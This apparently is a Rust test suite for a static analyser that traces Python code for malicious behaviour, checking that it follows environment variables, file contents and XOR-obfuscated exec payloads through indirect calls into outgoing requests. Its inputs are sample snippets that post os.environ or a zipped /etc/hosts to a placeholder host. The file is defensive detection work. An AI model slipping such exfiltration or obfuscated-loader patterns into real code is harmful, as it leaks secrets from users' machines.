//! Claims about values that are one of several, about methods that are called by way of something else, and about where names
//! are bound: what was put in arrives.

#[allow(dead_code, reason = "shared with other tests")]
mod common;

use common::{analysis_of, calls, event, events_of};
use venin_model::{Event, OriginKind, Role, Trigger};

/// Whether an event at import is given what comes of the environment.
fn carries_environment(events: &[Event], name: &str) -> bool {
    let named = events.iter().filter(|event| &*event.name == name && event.trigger == Trigger::Import);
    named.flat_map(|event| &event.arguments).any(|argument| argument.origins.kinds.contains(OriginKind::Env))
}

/// The texts, among some, in which the environment does not reach a call.
fn lost<'s>(call: &str, texts: &[&'s str]) -> Vec<&'s str> {
    let is_lost = |text: &&&str| {
        let source = format!("import os, io, requests, smtplib, zipfile\n{text}\n");
        !carries_environment(&events_of(&source), call)
    };
    texts.iter().filter(is_lost).copied().collect()
}

#[track_caller]
fn assert_sent(texts: &[&str]) {
    let lost = lost("requests.post", texts);
    assert!(lost.is_empty(), "{}", lost.join("\n\n"));
}

/// The command of the only event that has one.
fn command_of(source: &str) -> Option<String> {
    let event = event(source, "os.system");
    let command = event.arguments.into_iter().find(|argument| argument.role == Role::Command)?;
    command.value.map(|value| value.text.to_string())
}

#[test]
fn a_call_by_way_of_its_hook_is_the_call() {
    for call in [
        "os.system.__call__('echo a')",
        "os.system.__call__.__call__('echo a')",
        "getattr(os.system, '__call__')('echo a')",
        "getattr(os, 'system').__call__('echo a')",
        "os.system('echo b a'.split.__call__()[0] + ' a')",
        "os.system(' '.join.__call__(['echo', 'a']))",
        "os.system({'k': 'echo a'}.get.__call__('k'))",
        "def run(c): os.system(c)\nrun.__call__('echo a')",
        "class A:\n    def run(self, c): os.system(c)\nA().run.__call__('echo a')",
        "class A:\n    def run(self, c): os.system(c)\nrun = A().run.__call__\nrun('echo a')",
        "class A:\n    def run(self, c): os.system(c)\ngetattr(A().run, '__call__')('echo a')",
        "class A:\n    def __init__(self, c): os.system(c)\nA.__call__('echo a')",
        "class A:\n    def __init__(self, c): self.c = c\nos.system(A.__call__('echo a').c)",
        "class A:\n    def __call__(self, c): os.system(c)\nA().__call__('echo a')",
        "class A:\n    def __call__(self, c): os.system(c)\nA.__call__(A(), 'echo a')",
        "class B:\n    class A:\n        def __call__(self, c): os.system(c)\nB.A.__call__(B.A(), 'echo a')",
        "import functools\nfunctools.partial(os.system, 'echo a').__call__()",
    ] {
        let source = format!("import os\n{call}\n");
        assert_eq!(command_of(&source).as_deref(), Some("echo a"), "{call}");
    }
}

#[test]
fn a_method_that_is_taken_first_puts_into_its_object_what_it_is_given() {
    let mail = |body: &str| {
        format!(
            "from email.message import EmailMessage\nm = EmailMessage()\nv = str(os.environ)\n{body}\nrequests.post('https://a.invalid', data=m)"
        )
    };
    let bodies = [
        "m.set_content(v)",
        "put = m.set_content\nput(v)",
        "getattr(m, 'set_content')(v)",
        "m.set_content.__call__(v)",
        "getattr(m.set_content, '__call__')(v)",
        "def run(f, *a): return f(*a)\nrun(m.set_content, v)",
        "put = m.set_content if os.getpid() else None\nput(v)",
    ];
    let texts: Vec<String> = bodies.iter().map(|body| mail(body)).collect();
    assert_sent(&texts.iter().map(String::as_str).collect::<Vec<_>>());
    assert_sent(&[
        "from email.message import EmailMessage\nclass A:\n    def __init__(self):\n        self.m = EmailMessage()\n    def go(self):\n        put = self.m.set_content\n        put(str(os.environ))\n        requests.post('https://a.invalid', data=self.m)\nA().go()",
    ]);
}

#[test]
fn what_is_packed_by_a_method_taken_first_is_in_the_buffer() {
    for write in
        ["z.write('/etc/hosts')", "z.write.__call__('/etc/hosts')", "w = z.write\n    w('/etc/hosts')"]
    {
        let source = format!(
            "import io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as z:\n    {write}\nrequests.post('https://a.invalid', files={{'f': buf}})\n"
        );
        let post = event(&source, "requests.post");
        let is_file = post.arguments.iter().any(|a| a.origins.kinds.contains(OriginKind::File));
        assert!(is_file, "{write}");
    }
}

#[test]
fn another_object_takes_nothing_of_what_a_method_is_given() {
    let source = "import os, requests\nfrom email.message import EmailMessage\nfrom email.mime.multipart import MIMEMultipart\nm = EmailMessage()\nother = MIMEMultipart()\nput = m.set_content\nput(str(os.environ))\nrequests.post('https://a.invalid', data=other)\n";
    assert!(!carries_environment(&events_of(source), "requests.post"));
}

#[test]
fn of_several_values_the_one_that_can_take_an_operation_takes_it() {
    let send = "requests.post('https://a.invalid', json=found)";
    let texts = [
        "if os.getpid() > 0:\n    found = {}\nelse:\n    found = 0\nfor k, v in os.environ.items():\n    found[k] = v",
        "found = None\nif os.getpid() > 0:\n    found = {}\nfor k, v in os.environ.items():\n    found[k] = v",
        "found = {}\nfound.update(os.environ)",
        "found = None\nif os.getpid() > 0:\n    found = {}\nfound.update(os.environ)",
        "found = None\nif os.getpid() > 0:\n    found = []\nfor k, v in os.environ.items():\n    found.append(v)",
        "found = ''\nif os.getpid() > 0:\n    found = []\nfor k, v in os.environ.items():\n    found.append(v)",
        "found = None\nif os.getpid() > 0:\n    found = set()\nfor k, v in os.environ.items():\n    found.add(v)",
        "found = ()\nif os.getpid() > 0:\n    found = {}\nfound['a'] = str(os.environ)",
        "class A: pass\nfound = None\nif os.getpid() > 0:\n    found = A()\nfound.v = os.environ\nfound = found.v",
        "_cache = None\ndef cache():\n    global _cache\n    if _cache is None:\n        _cache = {}\n    return _cache\nfor k, v in os.environ.items():\n    cache()[k] = v\nfound = cache()",
        "class A:\n    def __init__(self):\n        self.rows = None\n    def start(self):\n        if os.getpid():\n            self.rows = {}\n    def put(self, k, v):\n        self.rows[k] = v\na = A()\na.start()\na.put('k', str(os.environ))\nfound = a.rows",
        "class A:\n    rows = None\n    def put(self, k, v):\n        if self.rows is None:\n            self.rows = {}\n        self.rows[k] = v\na = A()\na.put('k', str(os.environ))\nfound = a.rows",
    ];
    let texts: Vec<String> = texts.iter().map(|text| format!("{text}\n{send}")).collect();
    assert_sent(&texts.iter().map(String::as_str).collect::<Vec<_>>());
}

#[test]
fn of_several_values_the_object_of_a_library_is_filled() {
    let texts = [
        "from email.message import EmailMessage\nif os.getpid() > 0:\n    m = EmailMessage()\nelse:\n    m = 0\nm.set_content(str(os.environ))",
        "from email.message import EmailMessage\nm = None\nif os.getpid() > 0:\n    m = EmailMessage()\nput = m.set_content\nput(str(os.environ))",
    ];
    let texts: Vec<String> =
        texts.iter().map(|text| format!("{text}\nrequests.post('https://a.invalid', data=m)")).collect();
    assert_sent(&texts.iter().map(String::as_str).collect::<Vec<_>>());
}

#[test]
fn of_several_values_the_path_is_joined() {
    let source = "import os\nfrom pathlib import Path\nif os.getpid() > 0:\n    base = Path('/var/x')\nelse:\n    base = 0\n(base / 'token').read_text()\n";
    let read = event(source, "pathlib.Path().read_text");
    assert!(format!("{:?}", read.arguments).contains("/var/x/token"), "{read:?}");
}

#[test]
fn the_import_function_gives_the_module_that_an_import_gives() {
    for expression in [
        "__import__('paho.mqtt.client', fromlist=['_']).Client()",
        "__import__('paho.mqtt.client', None, None, ['Client']).Client()",
        "__import__('paho.mqtt.client').mqtt.client.Client()",
        "getattr(__import__('paho.mqtt.client', fromlist=('Client',)), 'Client')()",
        "__import__('paho.mqtt.client', fromlist=[]).mqtt.client.Client()",
    ] {
        let plain = calls("import paho.mqtt.client\nm = paho.mqtt.client.Client()\nm.connect('b.invalid')\n");
        let by_function = calls(&format!("m = {expression}\nm.connect('b.invalid')\n"));
        assert_eq!(plain, by_function, "{expression}");
    }
    let analysis = analysis_of(&[
        ("pkg/__init__.py", "__import__('pkg.b', fromlist=['run']).run('echo a')\n", Trigger::Import),
        ("pkg/b.py", "import os\ndef run(c): os.system(c)\n", Trigger::Run),
    ]);
    assert!(
        analysis.events.iter().any(|event| &*event.name == "os.system" && event.trigger == Trigger::Import)
    );
}

#[test]
fn a_name_that_a_class_body_declares_global_is_one_of_the_module() {
    assert_sent(&[
        "class A:\n    global found\n    found = str(os.environ)\nrequests.post('https://a.invalid', data=found)",
        "def go():\n    found = None\n    class A:\n        nonlocal found\n        found = str(os.environ)\n    requests.post('https://a.invalid', data=found)\ngo()",
        "def go():\n    class A:\n        global found\n        found = str(os.environ)\n    found = 0\ngo()\nrequests.post('https://a.invalid', data=found)",
    ]);
}

#[test]
fn what_a_loop_decodes_is_decoded_where_all_other_branches_raise() {
    let text: String = "import os\nos.system('echo a')\n# ".to_owned() + &"padding ".repeat(40);
    let bytes: Vec<String> = text.bytes().map(|byte| (byte ^ 7).to_string()).collect();
    let bytes = bytes.join(", ");
    for body in [
        "if os.getpid() > 0:\n            out.append(c ^ 7)\n        else:\n            raise SystemError",
        "if os.getpid() < 0:\n            raise SystemError\n        else:\n            out.append(c ^ 7)",
        "if os.getpid() < 0:\n            raise SystemError\n        elif os.getppid() > 0:\n            out.append(c ^ 7)\n        else:\n            raise SystemError",
        "if os.getpid() < 0:\n            raise SystemError\n        out.append(c ^ 7)",
        "try:\n            out.append(c ^ 7)\n        except ValueError:\n            raise",
    ] {
        let source = format!(
            "import os\ndef unpack(data):\n    out = bytearray()\n    for c in data:\n        {body}\n    return bytes(out)\nexec(unpack([{bytes}]))\n"
        );
        let is_decoded = events_of(&source).iter().any(|event| &*event.name == "os.system");
        assert!(is_decoded, "{body}");
    }
}

#[test]
fn what_is_put_together_in_a_branch_comes_from_where_its_parts_do() {
    for body in [
        "out.append(c ^ 7)",
        "if os.getpid() > 0:\n            out.append(c ^ 7)\n        else:\n            raise SystemError",
        "if os.getpid() > 0:\n            out.append(c ^ 7)",
        "try:\n            out.append(c ^ 7)\n        except ValueError:\n            pass",
    ] {
        let source = format!(
            "import os\ndef unpack(data):\n    out = bytearray()\n    for c in data:\n        {body}\n    return bytes(out)\nexec(unpack(open('data.bin', 'rb').read()))\n"
        );
        let code = event(&source, "exec").arguments.into_iter().find(|argument| argument.role == Role::Code);
        let is_file = code.is_some_and(|code| code.origins.kinds.contains(OriginKind::File));
        assert!(is_file, "{body}");
    }
}

#[test]
fn a_recursion_that_counts_down_comes_to_its_end() {
    for test in ["n", "n > 0", "n != 0"] {
        assert_sent(&[&format!(
            "def collect():\n    return dict(os.environ)\ndef send(v):\n    requests.post('https://a.invalid', json=v)\ndef go(n):\n    if {test}:\n        return go(n - 1)\n    send(collect())\ngo(3)"
        )]);
    }
}
